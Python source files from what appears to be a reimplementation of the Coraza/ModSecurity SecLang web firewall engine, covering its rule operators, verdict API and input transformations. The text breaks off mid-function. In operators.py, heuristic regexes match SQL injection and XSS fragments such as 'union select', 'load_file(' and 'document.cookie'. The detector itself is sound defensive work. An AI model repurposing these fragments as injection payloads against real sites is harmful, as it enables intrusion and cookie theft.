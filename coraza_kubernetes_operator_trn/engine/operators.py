"""SecLang operator evaluation (exact CPU semantics).

Operators return an ``OpResult`` carrying the boolean outcome plus capture
groups (for ``@rx`` with the ``capture`` action) and the matched span (for
MATCHED_VAR / logdata). The argument string may contain ``%{...}`` macros —
expansion happens in the transaction before calling these.

Regex note: the corpus targets RE2-compatible patterns (the reference's own
constraint — reference: hack/generate_coreruleset_configmaps.py:24-27
documents RE2's lack of lookahead). Evaluation here uses Python ``re``,
which is a superset; the device compiler (compiler/rx.py) implements the
RE2-compatible subset and falls back to this evaluator for the rest.
"""

from __future__ import annotations

import ipaddress
import re
from dataclasses import dataclass, field


@dataclass
class OpResult:
    matched: bool
    captures: list[str] = field(default_factory=list)
    matched_data: str = ""

    def __bool__(self) -> bool:
        return self.matched


_RX_CACHE: dict[str, "re.Pattern[str]"] = {}


def _re2_dollar(pattern: str) -> str:
    """Rewrite unescaped ``$`` (outside classes) to ``\\Z``.

    Go/RE2's ``$`` means strict end-of-text; Python's also matches before a
    trailing newline. Rewriting to ``\\Z`` keeps this evaluator and the
    device DFA (compiler/rx.py) bit-compatible with Coraza's regexp.

    Under a multiline flag both engines give ``$`` the same end-of-line
    meaning, so the rewrite must not apply (and the inline-group scan below
    can't tell which ``$`` a scoped ``(?m:...)`` governs — skip whenever any
    multiline flag is present; such patterns always run on this host path
    since the device compiler rejects them).
    """
    if re.search(r"\(\?[a-zA-Z-]*m[a-zA-Z-]*[):]", pattern):
        return pattern
    out: list[str] = []
    in_class = False
    i = 0
    while i < len(pattern):
        c = pattern[i]
        if c == "\\" and i + 1 < len(pattern):
            if pattern[i + 1] == "z" and not in_class:
                # RE2's \z (strict end-of-text) is a syntax error in
                # python re; \Z is python's strict end — same meaning
                out.append("\\Z")
            else:
                out.append(pattern[i:i + 2])
            i += 2
            continue
        if in_class:
            if c == "]":
                in_class = False
        elif c == "[":
            in_class = True
        elif c == "$":
            out.append("\\Z")
            i += 1
            continue
        out.append(c)
        i += 1
    return "".join(out)


def _compile_rx(pattern: str) -> "re.Pattern[str]":
    rx = _RX_CACHE.get(pattern)
    if rx is None:
        # SecLang patterns are byte-oriented; latin-1 strings keep parity.
        rx = re.compile(_re2_dollar(pattern), re.DOTALL)
        _RX_CACHE[pattern] = rx
    return rx


def op_rx(value: str, arg: str) -> OpResult:
    m = _compile_rx(arg).search(value)
    if not m:
        return OpResult(False)
    caps = [m.group(0)]
    caps.extend(g if g is not None else "" for g in m.groups())
    return OpResult(True, captures=caps[:10], matched_data=m.group(0))


def op_pm(value: str, arg: str) -> OpResult:
    """Case-insensitive multi-substring match; phrases split on whitespace."""
    hay = value.lower()
    for phrase in arg.split():
        p = phrase.lower()
        if p and p in hay:
            idx = hay.find(p)
            return OpResult(True, matched_data=value[idx:idx + len(p)])
    return OpResult(False)


def op_contains(value: str, arg: str) -> OpResult:
    ok = arg in value
    return OpResult(ok, matched_data=arg if ok else "")


def op_containsword(value: str, arg: str) -> OpResult:
    if not arg:
        return OpResult(False)
    start = 0
    while True:
        idx = value.find(arg, start)
        if idx == -1:
            return OpResult(False)
        before_ok = idx == 0 or not _is_word(value[idx - 1])
        end = idx + len(arg)
        after_ok = end >= len(value) or not _is_word(value[end])
        if before_ok and after_ok:
            return OpResult(True, matched_data=arg)
        start = idx + 1


def _is_word(c: str) -> bool:
    return c.isalnum() or c == "_"


def op_streq(value: str, arg: str) -> OpResult:
    return OpResult(value == arg, matched_data=value if value == arg else "")


def op_strmatch(value: str, arg: str) -> OpResult:
    ok = arg in value
    return OpResult(ok, matched_data=arg if ok else "")


def op_beginswith(value: str, arg: str) -> OpResult:
    ok = value.startswith(arg)
    return OpResult(ok, matched_data=arg if ok else "")


def op_endswith(value: str, arg: str) -> OpResult:
    ok = value.endswith(arg)
    return OpResult(ok, matched_data=arg if ok else "")


def op_within(value: str, arg: str) -> OpResult:
    """True if the (non-empty) value appears within the parameter string."""
    ok = bool(value) and value in arg
    return OpResult(ok, matched_data=value if ok else "")


def _to_int(s: str) -> int:
    """ModSecurity numeric coercion: leading integer, else 0."""
    m = re.match(r"\s*(-?\d+)", s)
    return int(m.group(1)) if m else 0


def _numeric(op_name: str):
    import operator as _op

    fn = {"eq": _op.eq, "ge": _op.ge, "gt": _op.gt, "le": _op.le,
          "lt": _op.lt}[op_name]

    def run(value: str, arg: str) -> OpResult:
        ok = fn(_to_int(value), _to_int(arg))
        return OpResult(ok, matched_data=value if ok else "")

    return run


def op_validatebyterange(value: str, arg: str) -> OpResult:
    """Matches (flags) if any byte is OUTSIDE the allowed ranges."""
    allowed = bytearray(256)
    for part in arg.split(","):
        part = part.strip()
        if not part:
            continue
        if "-" in part:
            lo_s, hi_s = part.split("-", 1)
            lo, hi = int(lo_s), int(hi_s)
        else:
            lo = hi = int(part)
        for b in range(max(0, lo), min(255, hi) + 1):
            allowed[b] = 1
    for c in value:
        if not allowed[ord(c) & 0xFF]:
            return OpResult(True, matched_data=c)
    return OpResult(False)


def op_validateurlencoding(value: str, arg: str) -> OpResult:
    """Matches (flags) on invalid %-encoding."""
    i, n = 0, len(value)
    hexd = "0123456789abcdefABCDEF"
    while i < n:
        if value[i] == "%":
            if i + 2 >= n or value[i + 1] not in hexd or value[i + 2] not in hexd:
                return OpResult(True, matched_data=value[i:i + 3])
            i += 3
        else:
            i += 1
    return OpResult(False)


def op_validateutf8encoding(value: str, arg: str) -> OpResult:
    data = value.encode("latin-1")
    i, n = 0, len(data)
    while i < n:
        b = data[i]
        if b < 0x80:
            i += 1
        elif 0xC2 <= b <= 0xDF:
            if i + 1 >= n or not 0x80 <= data[i + 1] <= 0xBF:
                return OpResult(True, matched_data=value[i:i + 2])
            i += 2
        elif 0xE0 <= b <= 0xEF:
            if i + 2 >= n or not (0x80 <= data[i + 1] <= 0xBF and
                                  0x80 <= data[i + 2] <= 0xBF):
                return OpResult(True, matched_data=value[i:i + 3])
            i += 3
        elif 0xF0 <= b <= 0xF4:
            if i + 3 >= n or not all(0x80 <= data[i + k] <= 0xBF
                                     for k in (1, 2, 3)):
                return OpResult(True, matched_data=value[i:i + 4])
            i += 4
        else:
            return OpResult(True, matched_data=value[i:i + 1])
    return OpResult(False)


# --- libinjection-style heuristics -----------------------------------------
# The reference's data plane embeds libinjection via Coraza (reference:
# go.sum's libinjection-go). A full port is out of scope for round 1; these
# conservative heuristics cover the CRS usage (942100 @detectSQLi,
# 941100 @detectXSS) well enough for the conformance corpus, and are
# flagged as approximations in docs/PARITY.md.

_SQLI_RX = _compile_rx(
    r"(?i)(\bunion\b.{0,40}\bselect\b|\bselect\b.{0,60}\bfrom\b"
    r"|\binsert\b\s+into\b|\bdelete\b\s+from\b|\bdrop\b\s+(table|database)\b"
    r"|\bor\b\s+\d+\s*=\s*\d+|'\s*or\s*'[^']*'\s*=\s*'"
    r"|\bsleep\s*\(|\bbenchmark\s*\(|\bload_file\s*\(|--\s|#|/\*.*\*/"
    r"|;\s*(select|insert|update|delete|drop)\b|'\s*;\s*--)")

_XSS_RX = _compile_rx(
    r"(?i)(<script\b|</script>|javascript\s*:|\bon(error|load|click|mouseover"
    r"|focus|blur)\s*=|<iframe\b|<object\b|<embed\b|<svg\b[^>]*\bon"
    r"|alert\s*\(|document\.(cookie|write)|eval\s*\()")


def op_detectsqli(value: str, arg: str) -> OpResult:
    m = _SQLI_RX.search(value)
    return OpResult(bool(m), matched_data=m.group(0) if m else "")


def op_detectxss(value: str, arg: str) -> OpResult:
    m = _XSS_RX.search(value)
    return OpResult(bool(m), matched_data=m.group(0) if m else "")


def op_ipmatch(value: str, arg: str) -> OpResult:
    try:
        addr = ipaddress.ip_address(value.strip())
    except ValueError:
        return OpResult(False)
    for part in arg.split(","):
        part = part.strip()
        if not part:
            continue
        try:
            net = ipaddress.ip_network(part, strict=False)
        except ValueError:
            continue
        if addr.version == net.version and addr in net:
            return OpResult(True, matched_data=value)
    return OpResult(False)


def _luhn_ok(digits: str) -> bool:
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = ord(ch) - 48
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return total % 10 == 0


def op_verifycc(value: str, arg: str) -> OpResult:
    """Match candidate numbers by the rule's regex, then Luhn-validate
    (Coraza semantics: any Luhn-valid candidate is a match)."""
    for m in _compile_rx(arg or r"\d{13,16}").finditer(value):
        digits = re.sub(r"[^0-9]", "", m.group(0))
        # no length bound: Coraza runs Luhn on whatever the rule's regex
        # matched (candidate length policy belongs to the rule pattern)
        if digits and _luhn_ok(digits):
            return OpResult(True, matched_data=m.group(0))
    return OpResult(False)


def op_verifyssn(value: str, arg: str) -> OpResult:
    """Match candidates by regex, validate US SSN structure: area not
    0/666/900+, group not 0, serial not 0."""
    for m in _compile_rx(arg or r"\d{3}-?\d{2}-?\d{4}").finditer(value):
        digits = re.sub(r"[^0-9]", "", m.group(0))
        if len(digits) != 9:
            continue
        area, group, serial = (int(digits[:3]), int(digits[3:5]),
                               int(digits[5:]))
        if area == 0 or area == 666 or area >= 900:
            continue
        if group == 0 or serial == 0:
            continue
        return OpResult(True, matched_data=m.group(0))
    return OpResult(False)


def op_unconditionalmatch(value: str, arg: str) -> OpResult:
    return OpResult(True, matched_data=value)


def op_nomatch(value: str, arg: str) -> OpResult:
    return OpResult(False)


OPERATORS = {
    "rx": op_rx,
    "pm": op_pm,
    "contains": op_contains,
    "containsword": op_containsword,
    "streq": op_streq,
    "strmatch": op_strmatch,
    "beginswith": op_beginswith,
    "endswith": op_endswith,
    "within": op_within,
    "eq": _numeric("eq"),
    "ge": _numeric("ge"),
    "gt": _numeric("gt"),
    "le": _numeric("le"),
    "lt": _numeric("lt"),
    "validatebyterange": op_validatebyterange,
    "validateurlencoding": op_validateurlencoding,
    "validateutf8encoding": op_validateutf8encoding,
    "detectsqli": op_detectsqli,
    "detectxss": op_detectxss,
    "ipmatch": op_ipmatch,
    "verifycc": op_verifycc,
    "verifyssn": op_verifyssn,
    "unconditionalmatch": op_unconditionalmatch,
    "nomatch": op_nomatch,
}

# Operators that parse (Coraza accepts them) but evaluate as no-match in
# this data plane because they need facilities a gateway sidecar doesn't
# have: network lookups (@rbl, @geoLookup), filesystem access
# (@inspectFile, @fuzzyHash), or XML schema files (@validateSchema).
# transaction._match_rule_targets returns no-match for these; anything
# NOT in OPERATORS or this set is rejected at parse time
# (seclang/parser.py KNOWN_OPERATORS).
NOMATCH_OPERATORS = {"rbl", "geolookup", "inspectfile", "fuzzyhash",
                     "validateschema", "rsub"}
