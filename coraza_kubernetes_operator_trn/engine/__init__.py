"""Exact CPU reference engine for SecLang.

This package is the semantic anchor of the framework:

- the **differential oracle** the trn device path is validated against
  (FTW-style conformance, golden-verdict unit tests);
- the **host fallback** path used when NeuronCores are unhealthy,
  honoring the Engine CRD's ``failurePolicy``;
- the **single-core CPU baseline** for bench.py (the reference publishes no
  numbers — see BASELINE.md — so this measurement is created here).

Semantics follow Coraza/ModSecurity SecLang. Strings are processed as
latin-1-decoded byte strings so arbitrary request bytes round-trip.
"""

from .reference import ReferenceWaf, Verdict  # noqa: F401
from .transaction import HttpRequest, HttpResponse, Transaction  # noqa: F401
