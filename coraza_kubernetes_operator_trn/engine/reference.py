"""ReferenceWaf: compiled ruleset + engine configuration + verdict API.

The public surface mirrors what the reference's data plane provides through
coraza-proxy-wasm (reference: SURVEY.md §3.5): process a request through
phases 1-2 (and optionally a response through 3-4, logging in 5) and return
an allow/deny/redirect verdict with matched-rule metadata for audit logging.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..seclang import parse
from ..seclang.ast import Rule, RuleSetAST
from ..seclang.errors import SecLangError
from .transaction import HttpRequest, HttpResponse, Interruption, Transaction


def _int_directive(value: str, directive: str, line: int) -> int:
    """Numeric directive argument -> int, SecLangError on garbage (the
    admission gate must reject these, not crash the caller)."""
    try:
        return int(value)
    except ValueError:
        raise SecLangError(
            f"{directive}: invalid numeric argument {value!r}", line
        ) from None


@dataclass
class DefaultAction:
    disruptive: str | None = None
    status: int = 403
    redirect_url: str = ""
    transformations: list[str] = field(default_factory=list)


@dataclass
class EngineConfig:
    rule_engine_mode: str = "On"  # On | Off | DetectionOnly
    request_body_access: bool = False
    request_body_limit: int = 131072
    request_body_limit_action: str = "Reject"  # Reject | ProcessPartial
    response_body_access: bool = False
    response_body_limit: int = 524288
    response_body_limit_action: str = "ProcessPartial"
    audit_engine: str = "RelevantOnly"
    audit_log_format: str = "JSON"
    audit_log: str = "/dev/stdout"
    default_actions: dict[int, DefaultAction] = field(default_factory=dict)

    @property
    def rule_engine_on(self) -> bool:
        return self.rule_engine_mode in ("On", "DetectionOnly")


@dataclass
class Verdict:
    """Final outcome of inspecting one transaction."""

    allowed: bool
    status: int = 0  # response status when not allowed (403/413/302/...)
    rule_id: int = 0
    action: str = ""  # deny | drop | redirect | ""
    redirect_url: str = ""
    matched_rule_ids: list[int] = field(default_factory=list)
    audit: list[dict] = field(default_factory=list)

    @property
    def denied(self) -> bool:
        return not self.allowed


def _parse_config(ast: RuleSetAST) -> EngineConfig:
    cfg = EngineConfig()
    for d in ast.directives:
        a0 = d.args[0] if d.args else ""
        if d.name == "secruleengine":
            cfg.rule_engine_mode = a0.capitalize() if a0.lower() != \
                "detectiononly" else "DetectionOnly"
        elif d.name == "secrequestbodyaccess":
            cfg.request_body_access = a0.lower() == "on"
        elif d.name == "secrequestbodylimit":
            cfg.request_body_limit = _int_directive(a0, d.name, d.line)
        elif d.name == "secrequestbodyinmemorylimit":
            pass
        elif d.name == "secrequestbodylimitaction":
            cfg.request_body_limit_action = a0
        elif d.name == "secresponsebodyaccess":
            cfg.response_body_access = a0.lower() == "on"
        elif d.name == "secresponsebodylimit":
            cfg.response_body_limit = _int_directive(a0, d.name, d.line)
        elif d.name == "secresponsebodylimitaction":
            cfg.response_body_limit_action = a0
        elif d.name == "secauditengine":
            cfg.audit_engine = a0
        elif d.name == "secauditlogformat":
            cfg.audit_log_format = a0
        elif d.name == "secauditlog":
            cfg.audit_log = a0
        elif d.name == "secdefaultaction":
            from ..seclang.parser import _PHASE_NAMES, split_actions
            phase = 2
            disruptive: str | None = None
            status = 403
            redirect_url = ""
            transforms: list[str] = []
            for name, arg in split_actions(a0):
                if name == "phase":
                    try:
                        phase = int(arg or "2")
                    except ValueError:
                        phase = _PHASE_NAMES.get((arg or "").lower(), 2)
                elif name in ("deny", "drop", "redirect", "pass", "allow"):
                    disruptive = name
                    if name == "redirect":
                        redirect_url = arg or ""
                elif name == "status":
                    status = _int_directive(arg or "403", d.name, d.line)
                elif name == "t" and arg:
                    if arg.lower() == "none":
                        transforms = []
                    else:
                        transforms.append(arg.lower())
            cfg.default_actions[phase] = DefaultAction(
                disruptive=disruptive, status=status,
                redirect_url=redirect_url, transformations=transforms)
    return cfg


class ReferenceWaf:
    """Exact CPU SecLang engine over a parsed ruleset.

    >>> waf = ReferenceWaf.from_text('SecRule ARGS "@contains evil" '
    ...                              '"id:1,phase:2,deny,status:403"')
    >>> v = waf.inspect(HttpRequest(method="GET", uri="/?q=evil"))
    >>> (v.allowed, v.status, v.rule_id)
    (False, 403, 1)
    """

    def __init__(self, ast: RuleSetAST):
        self.ast = ast
        self.config = _parse_config(ast)
        # persistent collections (IP/GLOBAL/SESSION/USER/RESOURCE):
        # (collection, instance-key) -> {var: value}, shared across this
        # WAF instance's transactions, activated per-tx via initcol —
        # in-memory like Coraza's default collection backend. Expiry
        # timestamps (expirevar) live beside values under _EXPIRY_KEY.
        self.persistent: dict[tuple[str, str], dict[str, str]] = {}
        self.persistent_expiry: dict[tuple[str, str], dict[str, float]] = {}
        # default-action transformations are prepended to rules without t:
        # (handled lazily in Transaction via rule.transformations; CRS always
        # sets t: explicitly, so round 1 keeps this simple)

    @classmethod
    def from_text(cls, text: str) -> "ReferenceWaf":
        return cls(parse(text))

    def phase_index(self, phase: int) -> list:
        """Items a phase walk must see: that phase's rules plus every
        Marker (skipAfter targets stay visible in all phases)."""
        idx = getattr(self, "_phase_index", None)
        if idx is None:
            from ..seclang.ast import Marker, Rule as _Rule
            idx = {p: [] for p in range(1, 6)}
            for item in self.ast.items:
                if isinstance(item, Marker):
                    for p in idx:
                        idx[p].append(item)
                elif isinstance(item, _Rule):
                    idx[item.phase].append(item)
            self._phase_index = idx
        return idx.get(phase, [])

    @property
    def rules(self) -> list[Rule]:
        return self.ast.rules

    def new_transaction(self, request: HttpRequest) -> Transaction:
        return Transaction(self, request)

    def inspect(self, request: HttpRequest,
                response: HttpResponse | None = None) -> Verdict:
        """Run phases 1..4 (+5 logging) and produce a Verdict."""
        tx = self.new_transaction(request)
        tx.eval_phase(1)
        if tx.interruption is None:
            tx.process_request_body()
            if tx.interruption is None:
                tx.eval_phase(2)
        if response is not None and tx.interruption is None:
            tx.process_response(response)
            tx.eval_phase(3)
            if tx.interruption is None:
                # response body is processed between phases 3 and 4, so
                # RESPONSE_BODY only becomes visible to phase-4 rules
                tx.process_response_body()
                tx.eval_phase(4)
        tx.eval_phase_5_logging()
        return self._verdict(tx)

    def _verdict(self, tx: Transaction) -> Verdict:
        matched_ids = [m.rule_id for m in tx.matched_rules]
        # SecAuditEngine decides whether audit records exist at all: Off =
        # never, RelevantOnly = interrupted transactions, On = everything.
        # Consumers (the sidecar's audit log) emit whatever is here.
        mode = self.config.audit_engine.lower()
        audited = (mode == "on"
                   or (mode == "relevantonly"
                       and tx.interruption is not None))
        audit = [
            {
                "id": m.rule_id, "phase": m.phase, "msg": m.msg,
                "logdata": m.logdata, "tags": m.tags, "severity": m.severity,
                "matched_var": m.matched_var,
                "matched_var_name": m.matched_var_name,
            }
            for m in tx.matched_rules
        ] if audited else []
        intr = tx.interruption
        if intr is None:
            return Verdict(True, matched_rule_ids=matched_ids, audit=audit)
        return Verdict(
            False,
            status=intr.status,
            rule_id=intr.rule_id,
            action=intr.action,
            redirect_url=intr.data if intr.action == "redirect" else "",
            matched_rule_ids=matched_ids,
            audit=audit,
        )
