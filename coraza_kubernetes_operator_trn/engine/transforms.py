"""SecLang transformation functions (exact CPU semantics).

Each transformation maps ``str -> str`` where the string is a
latin-1-decoded byte string (codepoints 0..255 only). These definitions are
the single source of truth: the jax kernels in ``ops/transforms_jax.py`` are
differentially tested against these (see tests/test_transforms_jax.py).

Semantics follow ModSecurity/Coraza. The transformation names appearing in
the reference corpus (reference: config/samples/ruleset.yaml uses t:none,
t:urlDecodeUni, t:htmlEntityDecode; CRS adds lowercase, cmdLine,
normalizePath, compressWhitespace, base64Decode, ...) are all implemented.
"""

from __future__ import annotations

import base64
import binascii
import hashlib

_HEX = "0123456789abcdefABCDEF"


def _is_hex(c: str) -> bool:
    return c in _HEX


def t_none(s: str) -> str:
    return s


def t_lowercase(s: str) -> str:
    # ASCII-only tolower (per-byte), not unicode lower.
    return "".join(chr(ord(c) + 32) if "A" <= c <= "Z" else c for c in s)


def t_uppercase(s: str) -> str:
    return "".join(chr(ord(c) - 32) if "a" <= c <= "z" else c for c in s)


def _fold_fullwidth(cp: int) -> int:
    """%uXXXX / \\uXXXX handling: IIS fullwidth range folds to ASCII."""
    if 0xFF01 <= cp <= 0xFF5E:
        return cp - 0xFEE0
    if cp <= 0xFF:
        return cp
    return cp & 0xFF  # keep low byte (ModSecurity behavior)


def t_urldecode(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c == "%" and i + 2 < n and _is_hex(s[i + 1]) and _is_hex(s[i + 2]):
            out.append(chr(int(s[i + 1:i + 3], 16)))
            i += 3
        elif c == "+":
            out.append(" ")
            i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


def t_urldecodeuni(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c == "%" and i + 1 < n and s[i + 1] in "uU" and i + 6 <= n \
                and all(_is_hex(x) for x in s[i + 2:i + 6]):
            cp = int(s[i + 2:i + 6], 16)
            out.append(chr(_fold_fullwidth(cp)))
            i += 6
        elif c == "%" and i + 2 < n and _is_hex(s[i + 1]) and _is_hex(s[i + 2]):
            out.append(chr(int(s[i + 1:i + 3], 16)))
            i += 3
        elif c == "+":
            out.append(" ")
            i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


_NAMED_ENTITIES = {
    "quot": '"', "amp": "&", "lt": "<", "gt": ">", "nbsp": "\xa0",
}


def t_htmlentitydecode(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c != "&":
            out.append(c)
            i += 1
            continue
        semi = s.find(";", i + 1, i + 10)
        if semi == -1:
            out.append(c)
            i += 1
            continue
        body = s[i + 1:semi]
        if body.startswith("#x") or body.startswith("#X"):
            hexpart = body[2:]
            if hexpart and all(_is_hex(x) for x in hexpart):
                out.append(chr(int(hexpart, 16) & 0xFF))
                i = semi + 1
                continue
        elif body.startswith("#"):
            dec = body[1:]
            if dec.isdigit():
                out.append(chr(int(dec) & 0xFF))
                i = semi + 1
                continue
        elif body.lower() in _NAMED_ENTITIES:
            out.append(_NAMED_ENTITIES[body.lower()])
            i = semi + 1
            continue
        out.append(c)
        i += 1
    return "".join(out)


def t_removenulls(s: str) -> str:
    return s.replace("\x00", "")


def t_replacenulls(s: str) -> str:
    return s.replace("\x00", " ")


_WS = " \t\n\r\f\v"


def t_removewhitespace(s: str) -> str:
    return "".join(c for c in s if c not in _WS and c != "\xa0")


def t_compresswhitespace(s: str) -> str:
    out = []
    in_ws = False
    for c in s:
        if c in _WS or c == "\xa0":
            if not in_ws:
                out.append(" ")
                in_ws = True
        else:
            out.append(c)
            in_ws = False
    return "".join(out)


def t_replacecomments(s: str) -> str:
    """/* ... */ -> single space (unterminated comment eats to end)."""
    out = []
    i, n = 0, len(s)
    while i < n:
        if s[i] == "/" and i + 1 < n and s[i + 1] == "*":
            end = s.find("*/", i + 2)
            out.append(" ")
            i = n if end == -1 else end + 2
        else:
            out.append(s[i])
            i += 1
    return "".join(out)


def t_removecomments(s: str) -> str:
    """Remove /*...*/, --, #, ; per ModSecurity removeComments (one pass)."""
    out = []
    i, n = 0, len(s)
    while i < n:
        if s[i] == "/" and i + 1 < n and s[i + 1] == "*":
            end = s.find("*/", i + 2)
            i = n if end == -1 else end + 2
        elif s[i] == "-" and i + 1 < n and s[i + 1] == "-":
            i = n
        elif s[i] == "#":
            i = n
        else:
            out.append(s[i])
            i += 1
    return "".join(out)


def t_removecommentschar(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c == "/" and i + 1 < n and s[i + 1] == "*":
            i += 2
        elif c == "*" and i + 1 < n and s[i + 1] == "/":
            i += 2
        elif c == "-" and i + 1 < n and s[i + 1] == "-":
            i += 2
        elif c == "#":
            i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


def t_cmdline(s: str) -> str:
    """ModSecurity cmdLine: delete \\ " ' ^ ; lowercase; , and ; -> space;
    compress whitespace; remove space before / and (."""
    out = []
    for c in s:
        if c in "\\\"'^":
            continue
        if c in ",;":
            c = " "
        if "A" <= c <= "Z":
            c = chr(ord(c) + 32)
        out.append(c)
    # compress whitespace
    compressed = []
    in_ws = False
    for c in out:
        if c in _WS:
            if not in_ws:
                compressed.append(" ")
                in_ws = True
        else:
            compressed.append(c)
            in_ws = False
    # remove space before / and (
    final = []
    for c in compressed:
        if c in "/(" and final and final[-1] == " ":
            final.pop()
        final.append(c)
    return "".join(final)


def t_normalizepath(s: str) -> str:
    """Collapse //, /./, resolve /../ (not above root)."""
    # Split off nothing: operate on whole string as a path.
    leading = s.startswith("/")
    parts = s.split("/")
    out: list[str] = []
    for idx, p in enumerate(parts):
        if p == "" and idx not in (0, len(parts) - 1):
            continue  # collapse //
        if p == ".":
            continue
        if p == "..":
            if out and out[-1] not in ("", ".."):
                out.pop()
            elif not leading:
                out.append("..")
            continue
        out.append(p)
    res = "/".join(out)
    if leading and not res.startswith("/"):
        res = "/" + res
    if s.endswith("/") and res and not res.endswith("/"):
        res += "/"
    return res


def t_normalizepathwin(s: str) -> str:
    return t_normalizepath(s.replace("\\", "/"))


def t_trimleft(s: str) -> str:
    return s.lstrip(_WS)


def t_trimright(s: str) -> str:
    return s.rstrip(_WS)


def t_trim(s: str) -> str:
    return s.strip(_WS)


def t_length(s: str) -> str:
    return str(len(s))


_B64_CHARS = set(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")


def t_base64decode(s: str) -> str:
    """Decode until the first invalid character (ModSecurity behavior)."""
    valid = []
    for c in s:
        if c in _B64_CHARS or c == "=":
            valid.append(c)
        else:
            break
    buf = "".join(valid).split("=")[0]
    if len(buf) % 4 == 1:
        buf = buf[:-1]
    pad = "=" * (-len(buf) % 4)
    try:
        return base64.b64decode(buf + pad).decode("latin-1")
    except (binascii.Error, ValueError):
        return ""


def t_base64decodeext(s: str) -> str:
    """Skip invalid characters, then decode."""
    buf = "".join(c for c in s if c in _B64_CHARS)
    if len(buf) % 4 == 1:
        buf = buf[:-1]
    pad = "=" * (-len(buf) % 4)
    try:
        return base64.b64decode(buf + pad).decode("latin-1")
    except (binascii.Error, ValueError):
        return ""


def t_base64encode(s: str) -> str:
    return base64.b64encode(s.encode("latin-1")).decode("ascii")


def t_hexdecode(s: str) -> str:
    buf = "".join(c for c in s if _is_hex(c))
    if len(buf) % 2:
        buf = buf[:-1]
    try:
        return bytes.fromhex(buf).decode("latin-1")
    except ValueError:
        return ""


def t_hexencode(s: str) -> str:
    return s.encode("latin-1").hex()


def t_jsdecode(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c != "\\" or i + 1 >= n:
            out.append(c)
            i += 1
            continue
        nxt = s[i + 1]
        if nxt in "uU" and i + 6 <= n and all(_is_hex(x) for x in s[i + 2:i + 6]):
            cp = _fold_fullwidth(int(s[i + 2:i + 6], 16))
            # non-foldable code points above 0xFF keep their low byte
            # (ModSecurity js_decode_nonstrict_inplace semantics); the
            # value domain stays latin-1 bytes
            out.append(chr(cp if cp <= 0xFF else cp & 0xFF))
            i += 6
        elif nxt in "xX" and i + 4 <= n and all(_is_hex(x) for x in s[i + 2:i + 4]):
            out.append(chr(int(s[i + 2:i + 4], 16)))
            i += 4
        elif nxt in "01234567":
            j = i + 1
            digits = ""
            while j < n and len(digits) < 3 and s[j] in "01234567":
                digits += s[j]
                j += 1
            out.append(chr(int(digits, 8) & 0xFF))
            i = j
        else:
            mapping = {"a": "\a", "b": "\b", "f": "\f", "n": "\n", "r": "\r",
                       "t": "\t", "v": "\v"}
            out.append(mapping.get(nxt, nxt))
            i += 2
    return "".join(out)


def t_cssdecode(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c != "\\" or i + 1 >= n:
            out.append(c)
            i += 1
            continue
        j = i + 1
        hexdigits = ""
        while j < n and len(hexdigits) < 6 and _is_hex(s[j]):
            hexdigits += s[j]
            j += 1
        if hexdigits:
            if j < n and s[j] == " ":  # optional terminating space
                j += 1
            out.append(chr(int(hexdigits, 16) & 0xFF))
            i = j
        elif s[i + 1] == "\n":
            i += 2  # escaped newline removed
        else:
            out.append(s[i + 1])
            i += 2
    return "".join(out)


def t_escapeseqdecode(s: str) -> str:
    out = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c != "\\" or i + 1 >= n:
            out.append(c)
            i += 1
            continue
        nxt = s[i + 1]
        mapping = {"a": "\a", "b": "\b", "f": "\f", "n": "\n", "r": "\r",
                   "t": "\t", "v": "\v", "\\": "\\", "?": "?", "'": "'",
                   '"': '"'}
        if nxt in "xX" and i + 4 <= n and all(_is_hex(x) for x in s[i + 2:i + 4]):
            out.append(chr(int(s[i + 2:i + 4], 16)))
            i += 4
        elif nxt in "01234567":
            j = i + 1
            digits = ""
            while j < n and len(digits) < 3 and s[j] in "01234567":
                digits += s[j]
                j += 1
            out.append(chr(int(digits, 8) & 0xFF))
            i = j
        elif nxt in mapping:
            out.append(mapping[nxt])
            i += 2
        else:
            out.append(c)
            out.append(nxt)
            i += 2
    return "".join(out)


def t_utf8tounicode(s: str) -> str:
    """UTF-8 byte sequences -> %uXXXX form (ModSecurity utf8toUnicode)."""
    data = s.encode("latin-1")
    out = []
    i, n = 0, len(data)
    while i < n:
        b = data[i]
        if b < 0x80:
            out.append(chr(b))
            i += 1
        elif 0xC0 <= b <= 0xDF and i + 1 < n and 0x80 <= data[i + 1] <= 0xBF:
            cp = ((b & 0x1F) << 6) | (data[i + 1] & 0x3F)
            out.append("%%u%04x" % cp)
            i += 2
        elif 0xE0 <= b <= 0xEF and i + 2 < n and \
                0x80 <= data[i + 1] <= 0xBF and 0x80 <= data[i + 2] <= 0xBF:
            cp = ((b & 0x0F) << 12) | ((data[i + 1] & 0x3F) << 6) | \
                (data[i + 2] & 0x3F)
            out.append("%%u%04x" % cp)
            i += 3
        else:
            out.append(chr(b))
            i += 1
    return "".join(out)


def t_sha1(s: str) -> str:
    return hashlib.sha1(s.encode("latin-1")).digest().decode("latin-1")


def t_md5(s: str) -> str:
    return hashlib.md5(s.encode("latin-1")).digest().decode("latin-1")


def t_sqlhexdecode(s: str) -> str:
    """Decode SQL hex literals 0xAABB... in place."""
    out = []
    i, n = 0, len(s)
    while i < n:
        if s[i] == "0" and i + 1 < n and s[i + 1] in "xX":
            j = i + 2
            while j < n and _is_hex(s[j]):
                j += 1
            hexpart = s[i + 2:j]
            if len(hexpart) >= 2:
                if len(hexpart) % 2:
                    hexpart = hexpart[:-1]
                out.append(bytes.fromhex(hexpart).decode("latin-1"))
                i = j
                continue
        out.append(s[i])
        i += 1
    return "".join(out)


def _parity(s: str, even: bool | None) -> str:
    out = []
    for c in s:
